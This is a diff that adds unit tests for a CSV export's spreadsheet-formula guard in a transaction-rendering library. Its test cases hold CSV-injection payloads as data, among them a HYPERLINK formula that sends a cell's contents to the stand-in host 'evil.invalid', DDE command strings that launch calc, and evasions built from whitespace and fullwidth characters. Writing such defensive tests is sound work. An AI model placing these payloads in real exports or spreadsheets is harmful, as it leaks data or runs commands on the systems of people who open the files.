@@ -1,6 +1,8 @@
 /* Unit tests of render_csv and txfields: quoting, Type words, Name fallbacks, display
- * categories, category split, Money Out/In and the Balance column. */
+ * categories, category split, Money Out/In, the Balance column and the spreadsheet
+ * guard of the text cells (csvcell). */
 #include "check.h"
+#include "csvcell.h"
 #include "localtime.h"
 #include "render_csv.h"
 #include "txfields.h"
@@ -40,6 +42,84 @@ static void check_category(const char *in, const char *want)
 	txfields_category(in, &sb);
 	CHECK_STR(sb.buf, want);
 	sb_release(&sb);
+}
+
+/* A text cell as the CSV shows it: in, the cell's text; want, the field's bytes. */
+struct guard_case {
+	const char *in, *want;
+};
+
+static const struct guard_case guard_cases[] = {
+	/* What strangers send: each becomes text. */
+	{ "=HYPERLINK(\"http://evil.invalid/?\"&B2,\"refund\")",
+	  "\"'=HYPERLINK(\"\"http://evil.invalid/?\"\"&B2,\"\"refund\"\")\"" },
+	{ "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0" },
+	{ "-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0" },
+	{ "@SUM(A1)", "'@SUM(A1)" },
+	{ "+1+1", "'+1+1" },
+	{ "-2+3", "'-2+3" },
+	{ "+A1", "'+A1" },
+	{ "- HYPERLINK(\"x\")", "\"'- HYPERLINK(\"\"x\"\")\"" },
+	{ "=", "'=" },
+	{ "@", "'@" },
+	{ "--", "'--" },
+	{ "- ", "'- " },
+	/* Blanks before a formula hide it from a guard that looks at one byte only. */
+	{ "\t=1+1", "'\t=1+1" },
+	{ "\r=1+1", "\"'\r=1+1\"" },
+	{ "\n=1+1", "\"'\n=1+1\"" },
+	{ " =1+1", "' =1+1" },
+	{ "\x01\x1f -A1", "'\x01\x1f -A1" },
+	/* The fullwidth forms. */
+	{ "\xef\xbc\x9d" "1+1", "'\xef\xbc\x9d" "1+1" },
+	{ "\xef\xbc\x8b" "1", "'\xef\xbc\x8b" "1" },
+	{ "\xef\xbc\x8d" "1", "'\xef\xbc\x8d" "1" },
+	{ "\xef\xbc\xa0" "SUM(A1)", "'\xef\xbc\xa0" "SUM(A1)" },
+	/* Text a spreadsheet may compute or turn into an error: guarded too. */
+	{ "+44 20 7946 0000", "'+44 20 7946 0000" },
+	{ "-5% off", "'-5% off" },
+	{ "-5", "'-5" },
+	{ "-,5", "\"'-,5\"" },
+	/* Left as they are: a lone sign, ordinary text, a guard already there. */
+	{ "-", "-" },
+	{ "+", "+" },
+	{ "\t-", "\t-" },
+	{ "", "" },
+	{ "Tesco", "Tesco" },
+	{ "a=b", "a=b" },
+	{ "5-2", "5-2" },
+	{ "#lunch -2", "#lunch -2" },
+	{ "\tplain", "\tplain" },
+	{ "'=1+1", "'=1+1" },
+	{ "'-", "'-" },
+	{ "\xc2\xa0=1", "\xc2\xa0=1" },  /* no spreadsheet trims a no-break space */
+	{ "\x7f=1", "\x7f=1" },
+	{ "\xef\xbc\x9c" "1", "\xef\xbc\x9c" "1" },  /* fullwidth < */
+	{ "Caf\xc3\xa9 -2", "Caf\xc3\xa9 -2" },
+};
+
+static void check_guard(void)
+{
+	for (size_t i = 0; i < sizeof guard_cases / sizeof guard_cases[0]; i++) {
+		const struct guard_case *c = &guard_cases[i];
+		struct strbuf sb = STRBUF_INIT, again = STRBUF_INIT;
+		render_csv_text(c->in, &sb);
+		CHECK_STR(sb_str(&sb), c->want);
+		/* The guarded text is never guarded again. */
+		sb_addf(&again, "'%s", c->in);
+		CHECK(!csvcell_is_formula(sb_str(&again)));
+		/* Ids, amounts and currencies are never guarded: the same field, without the '. */
+		sb_reset(&sb);
+		render_csv_field(c->in, &sb);
+		size_t at = c->want[0] == '"';
+		if (csvcell_is_formula(c->in))
+			CHECK(c->want[at] == '\'' && !strncmp(sb_str(&sb), c->want, at) &&
+			      !strcmp(sb_str(&sb) + at, c->want + at + 1));
+		else
+			CHECK_STR(sb_str(&sb), c->want);
+		sb_release(&sb);
+		sb_release(&again);
+	}
 }
 
 int main(void)
@@ -99,6 +179,23 @@ int main(void)
 	check_category("_odd", "_odd");
 	check_category("double__underscore", "double__underscore");
 	check_category("", "");
+
+	/* A stranger's credit: every text cell guarded, the id, amounts and currency not. */
+	r = row();
+	r.scheme = "-evil";
+	r.merchant_name = "";
+	r.merchant_emoji = "@";
+	r.cp_name = "=HYPERLINK(\"http://evil.invalid/?\"&B2,\"refund\")";
+	r.category = "-custom";
+	r.categories = "{\"-custom\":-300,\"eating_out\":-210}";
+	r.notes = "=cmd|' /C calc'!A0";
+	r.merchant_address = "\t=1+1";
+	r.description = "-2+3";
+	check_row(&r, NULL, true, -12345,
+		  "tx_1,01/06/2024,13:20:18,'-evil,\"'=HYPERLINK(\"\"http://evil.invalid/?\"\"&B2,\"\"refund\"\")\",'@,"
+		  "'-custom,-5.10,GBP,-5.10,GBP,'=cmd|' /C calc'!A0,'\t=1+1,,'-2+3,"
+		  "\"'-custom:-3.00,Eating out:-2.10\",-5.10,,-123.45,GBP\n");
+	check_guard();
 
 	struct strbuf f = STRBUF_INIT;
 	render_csv_field("plain", &f);
